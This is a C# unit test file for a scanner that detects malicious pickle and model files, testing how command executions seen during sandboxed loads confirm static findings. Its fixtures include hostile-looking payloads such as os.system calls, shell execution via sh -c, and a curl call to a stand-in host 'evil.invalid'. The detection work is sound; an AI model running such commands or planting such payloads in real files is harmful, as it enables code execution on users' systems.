// What test loads were seen doing becomes findings, and says which findings of the scan it confirms.
using Assay.Artifacts;
using Assay.Detection;
using Assay.Policies;
using Assay.Tests.Builders;

namespace Assay.Tests.Detection.Behaviours;

public sealed class BehaviourFindingTests
{
    private static BehaviourFact Seen(string kind, string subject, params string[] arguments) => new()
    {
        Path = FactBuilder.Path,
        Kind = kind,
        Source = BehaviourSource.Syscall,
        Action = "execve",
        Subject = subject,
        Arguments = arguments,
        Loader = "pickle.load",
    };

    private static string? Observed(Finding finding) => finding.Evidence.FirstOrDefault(e => e.Kind == "observed")?.Text;

    [Fact]
    public void ACallThatWasSeenIsConfirmed()
    {
        List<Finding> findings = FactBuilder.Judge([.. FactBuilder.Facts("{call: os.system, args: [id]}"), Seen("process-start", "/bin/sh", "sh", "-c", "id")]);
        Finding foretold = findings.Single(f => f.Rule.Id == "callable-command-execution");
        Assert.StartsWith("confirmed: ", Observed(foretold), StringComparison.Ordinal);
        Finding observed = findings.Single(f => f.Rule.Id == "observed-command");
        Assert.DoesNotContain("only observed", observed.Evidence.Single(e => e.Kind == "scan").Text, StringComparison.Ordinal);
    }

    [Fact]
    public void ACallThatWasNotSeenStaysAsSevereAsItWas()
    {
        List<Fact> facts = FactBuilder.Facts("{call: os.system, args: [id]}");
        Finding alone = FactBuilder.Judge(facts).Single(f => f.Rule.Id == "callable-command-execution");
        Finding loaded = FactBuilder.Judge([.. facts, Seen("python-import", "os")]).Single(f => f.Rule.Id == "callable-command-execution");
        Assert.StartsWith("not observed", Observed(loaded), StringComparison.Ordinal);
        Assert.Equal((alone.Severity, alone.Confidence, alone.ContentKey), (loaded.Severity, loaded.Confidence, loaded.ContentKey));
    }

    [Fact]
    public void WhatTheScanDidNotForeseeIsOnlyObserved()
    {
        Finding observed = Assert.Single(FactBuilder.Judge([Seen("process-start", "/bin/sh")]));
        Assert.Contains("only observed", observed.Evidence.Single(e => e.Kind == "scan").Text, StringComparison.Ordinal);
        Assert.Equal(Verdict.Malicious, VerdictJudge.Judge([observed], []));
    }

    [Fact]
    public void ALookupOfAnOrdinaryClassSaysNothing()
    {
        Assert.Empty(FactBuilder.Judge([Seen("python-lookup", "collections.OrderedDict")]));
        Assert.Contains(FactBuilder.Judge([Seen("python-lookup", "posix.system")]), f => f.Rule.Id == "observed-python-lookup");
    }

    [Fact]
    public void AnObservationNamesTheLoadersInWhichItWasMade()
    {
        BehaviourFact one = Seen("process-start", "/bin/sh");
        Finding observed = Assert.Single(FactBuilder.Judge([
            new FormatFact { Path = FactBuilder.Path, Format = "pickle" }, one, one with { Loader = "torch.load(weights_only=True)" }, one with { Loader = "pickle.load, host build-7" }]));
        Assert.Equal(["pickle.load", "torch.load"], observed.Loaders.Select(l => l.Loader));
    }

    [Fact]
    public void ManyEventsOfOneKindAreOneFinding()
    {
        Finding finding = Assert.Single(FactBuilder.Judge([.. Enumerable.Range(0, 50).Select(i => Seen("file-write", $"/tmp/{i}"))]));
        Assert.True(finding.Evidence.Count < 20);
        Assert.Equal("38", finding.Evidence.Single(e => e.Kind == "more").Text);
    }

    [Fact]
    public void ATestLoadTakesNoFindingAway()
    {
        // More findings of one rule than are listed one by one: they were counted twice when the list was filled again.
        List<Fact> facts = [.. Enumerable.Range(0, 1600).SelectMany(i => FactBuilder.Facts($"{{call: os.system, args: [id], inside: {i}.pkl}}"))];
        List<Finding> alone = FactBuilder.Judge(facts);
        List<Finding> loaded = FactBuilder.Judge([.. facts, Seen("python-import", "os")]);
        Assert.Equal(1001, alone.Count);
        Assert.Equal(alone.Select(f => f.ContentKey), loaded.Select(f => f.ContentKey));
        Assert.Contains(loaded, f => f.Evidence.Any(e => e is { Kind: "more-findings", Text: "600" }));
    }

    [Fact]
    public void TheEventThatHoldsTheWholeCommandIsTheProof()
    {
        string command = "curl http://evil.invalid/" + new string('a', 300);
        List<Finding> findings = FactBuilder.Judge(
            [.. FactBuilder.Facts($"{{call: os.system, args: [{command}]}}"), Seen("process-start", "/bin/true"), Seen("process-start", "/bin/sh", "sh", "-c", command)]);
        Assert.Contains("/bin/sh", Observed(findings.Single(f => f.Rule.Id == "callable-command-execution")), StringComparison.Ordinal);
    }

    [Fact]
    public void WhatHappensOnlyInUseIsToldSo()
    {
        Finding finding = Assert.Single(FactBuilder.Judge([Seen("process-start", "/bin/sh") with { Phase = "use" }]));
        Assert.Equal("use", finding.Phase);
    }
}
